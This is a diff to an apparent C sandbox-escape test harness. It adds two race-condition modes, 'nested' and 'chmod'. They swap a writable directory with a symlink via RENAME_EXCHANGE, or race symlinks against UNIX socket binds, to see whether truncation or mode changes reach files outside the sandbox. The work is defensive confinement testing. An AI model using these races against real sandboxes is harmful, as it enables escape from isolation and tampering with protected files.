@@ -14,6 +14,14 @@
  *                      and /proc/HOSTPID; the main thread sends SIGTERM through descriptor 40 N
  *                      times. The caller checks whether HOSTPID survived; this mode always prints
  *                      "sent".
+ *   nested DIR OUTSIDE N
+ *                      DIR/inner (a writable root nested in the writable root DIR) keeps trading
+ *                      places (RENAME_EXCHANGE) with DIR/link, a symlink to the directory OUTSIDE;
+ *                      the main thread truncates DIR/inner/f; escaped if OUTSIDE/f is emptied.
+ *   chmod DIR OUTSIDE N
+ *                      with umask 0, the main thread binds a UNIX socket at DIR/s and removes it,
+ *                      while the second thread keeps putting a symlink to the file OUTSIDE there;
+ *                      escaped if OUTSIDE's mode changes.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -29,6 +37,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/types.h>
+#include <sys/un.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -197,12 +206,98 @@ static int race_pidfd(const char *host_pid, int n) {
     return 0;
 }
 
+/* nested */
+static char inner_path[4096], link_path[4096];
+
+static void *flip_nested(void *unused) {
+    (void)unused;
+    while (!stop) {
+        syscall(SYS_renameat2, AT_FDCWD, inner_path, AT_FDCWD, link_path, 2 /* RENAME_EXCHANGE */);
+        dwell();
+        cycles++;
+    }
+    return NULL;
+}
+
+static int race_nested(const char *dir, const char *outside, int n) {
+    snprintf(inner_path, sizeof inner_path, "%s/inner", dir);
+    snprintf(link_path, sizeof link_path, "%s/link", dir);
+    char target[4096], victim[4096];
+    snprintf(target, sizeof target, "%s/inner/f", dir);
+    snprintf(victim, sizeof victim, "%s/f", outside);
+    pthread_t t;
+    start_flipping(&t, flip_nested);
+    int i;
+    for (i = 0; more(i, n); i++) {
+        truncate(target, 0);
+        struct stat st;
+        if (stat(victim, &st) == 0 && st.st_size == 0) {
+            stop = 1;
+            printf("escaped after %d tries\n", i);
+            return 0;
+        }
+    }
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("held for %d tries\n", i);
+    return 1;
+}
+
+/* chmod */
+static char sock_path[4096], victim_path[4096];
+
+static void *flip_link(void *unused) {
+    (void)unused;
+    while (!stop) {
+        symlink(victim_path, sock_path);
+        dwell();
+        unlink(sock_path);
+        cycles++;
+    }
+    return NULL;
+}
+
+static int race_chmod(const char *dir, const char *outside, int n) {
+    snprintf(sock_path, sizeof sock_path, "%s/s", dir);
+    snprintf(victim_path, sizeof victim_path, "%s", outside);
+    struct stat before;
+    if (stat(outside, &before) != 0) return 2;
+    umask(0);
+    struct sockaddr_un addr = {.sun_family = AF_UNIX};
+    snprintf(addr.sun_path, sizeof addr.sun_path, "%s", sock_path);
+    pthread_t t;
+    start_flipping(&t, flip_link);
+    int i, bound = 0;
+    for (i = 0; more(i, n); i++) {
+        int s = socket(AF_UNIX, SOCK_STREAM, 0);
+        if (bind(s, (struct sockaddr *)&addr, sizeof addr) == 0) {
+            bound++;
+            unlink(sock_path);
+        }
+        close(s);
+        struct stat now;
+        if (stat(outside, &now) == 0 && now.st_mode != before.st_mode) {
+            stop = 1;
+            printf("escaped after %d tries\n", i);
+            return 0;
+        }
+    }
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("held for %d tries (%d binds)\n", i, bound);
+    return 1;
+}
+
 int main(int argc, char **argv) {
     if (argc == 5 && strcmp(argv[1], "truncate") == 0)
         return race_truncate(argv[2], argv[3], atoi(argv[4]));
     if (argc == 5 && strcmp(argv[1], "bind") == 0)
         return race_bind(atoi(argv[2]), atoi(argv[3]), atoi(argv[4]));
     if (argc == 4 && strcmp(argv[1], "pidfd") == 0) return race_pidfd(argv[2], atoi(argv[3]));
+    if (argc == 5 && strcmp(argv[1], "nested") == 0)
+        return race_nested(argv[2], argv[3], atoi(argv[4]));
+    if (argc == 5 && strcmp(argv[1], "chmod") == 0)
+        return race_chmod(argv[2], argv[3], atoi(argv[4]));
     fprintf(stderr, "usage: %s truncate RO RW N | bind OK NO N | pidfd HOSTPID N\n", argv[0]);
     return 2;
 }
